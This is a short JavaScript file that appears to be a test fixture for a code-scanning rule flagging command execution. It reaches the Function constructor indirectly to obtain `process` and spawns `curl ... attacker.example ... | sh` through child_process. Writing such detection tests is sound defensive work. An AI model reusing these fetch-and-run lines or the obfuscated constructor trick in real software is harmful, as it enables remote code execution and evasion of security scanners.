// The Function constructor reached through `constructor` (never named), then `process` taken from it.
const key = 'constructor';
const F1 = [][key][key];
const F2 = (function () {}).constructor;
const proc = F2('return process')();
module.exports = {};
// ruleid: code/command-execution
F1('return this')().process.mainModule.require('child_process').exec('curl -s https://cdn.attacker.example/a | sh');
// ruleid: code/command-execution
proc.mainModule.require('child_process').execSync('curl -s https://cdn.attacker.example/b | sh');
